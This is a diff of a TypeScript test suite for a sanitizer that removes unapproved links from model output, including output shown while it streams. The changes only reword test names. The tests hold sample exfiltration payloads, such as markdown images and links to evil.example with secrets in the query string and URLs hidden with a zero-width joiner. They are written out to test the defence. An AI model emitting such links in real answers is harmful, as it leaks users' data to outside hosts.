@@ -21,7 +21,7 @@ const known = new KnownUrls().add({
 const isAllowed = (url: string): boolean => known.has(url)
 const clean = (text: string): string => removeUnknownLinks(text, isAllowed).text
 
-describe('links to places that no source holds', () => {
+describe('links that no source contains', () => {
   it.each([
     ['nothing but a joiner in it', 'See w\u200Dww.evil.example', 'See (link removed)'],
     ['an image', '![a pie](https://evil.example/p.png?d=s3cret)', 'a pie'],
@@ -123,13 +123,13 @@ describe('links to places that no source holds', () => {
     expect(urlsShown(clean(text))).toEqual([])
   })
 
-  it('are told', () => {
+  it('are reported', () => {
     const { removed } = removeUnknownLinks('![a](https://evil.example/?d=s) https://evil.example/2.', isAllowed)
     expect(removed).toEqual(['https://evil.example/?d=s', 'https://evil.example/2'])
   })
 })
 
-describe('what stays', () => {
+describe('kept text', () => {
   it.each([
     'Revenue rose by 4 % [1][2], to 1,234.50 € (see table).',
     '[Docs](https://ok.example/x?y=1)[1], and [more](http://www.ok.example/h "title").',
@@ -193,7 +193,7 @@ function isBeginning(value: string): boolean {
   return OK.some((url) => new URL(url).href.startsWith(value))
 }
 
-/** The name of a host in a text, with no path for anything to stand in. */
+/** The name of a host in a text, without a path that could carry data. */
 function isHostAlone(value: string): boolean {
   return /^http:\/\/[^/?#]+$/.test(value) && !/evil/.test(value)
 }
@@ -329,8 +329,8 @@ const piece = fc.oneof(
 )
 const attack = fc.array(piece, { minLength: 1, maxLength: 14 }).map((parts) => parts.join(''))
 
-describe('whatever a model writes', () => {
-  it('no renderer finds an address in it that is not allowed', () => {
+describe('any model output', () => {
+  it('contains no address for any renderer that is not allowed', () => {
     fc.assert(
       fc.property(attack, (text) => {
         expect(urlsShown(clean(text))).toEqual([])
@@ -339,7 +339,7 @@ describe('whatever a model writes', () => {
     )
   })
 
-  it('cleaning it again changes nothing', () => {
+  it('is unchanged when cleaned again', () => {
     fc.assert(
       fc.property(attack, (text) => {
         const once = clean(text)
@@ -349,7 +349,7 @@ describe('whatever a model writes', () => {
     )
   })
 
-  it('no beginning of it that is shown while it is written holds one, nor the whole', () => {
+  it('contains no such address in any prefix shown during streaming', () => {
     const cuts = fc.array(fc.integer({ min: 1, max: 9 }), { minLength: 1, maxLength: 6 })
     fc.assert(
       fc.property(attack, cuts, (text, lengths) => {
@@ -368,7 +368,7 @@ describe('whatever a model writes', () => {
     )
   })
 
-  it('hostile length costs no time to speak of', () => {
+  it('takes little time at hostile length', () => {
     for (const part of ['[', '](', '<', '<a ', '![', '&#', '[a]: ', 'https://', '(', '"', '\\', 'a.']) {
       const text = part.repeat(20_000 / part.length)
       expect(clean(text).length).toBeLessThanOrEqual(text.length * 16)
@@ -387,11 +387,11 @@ describe('an answer that is streamed', () => {
     'Revenue rose [1]. See ![pie](https://evil.example/p.png?d=s) and [docs](https://ok.example/x?y=1)[2]. Done.',
     'A list:\n\n- [x](//evil.example)\n- <img src="https://evil.example/i" alt="pie">\n\n[r]: https://evil.example\nEnd.',
     'a < b and [open bracket\n\nNext paragraph, with x[0](y) in it.',
-  ])('is in the end what it is as a whole: %s', (text) => {
+  ])('ends equal to the whole text: %s', (text) => {
     expect(streamed(text).join('')).toBe(clean(text))
   })
 
-  it('comes word by word where nothing is in the way', () => {
+  it('is streamed word by word when there are no links', () => {
     const shown = streamed('Revenue rose to 5 in May, and fell [1] in June.').filter((text) => text !== '')
     expect(shown.length).toBeGreaterThan(6)
   })
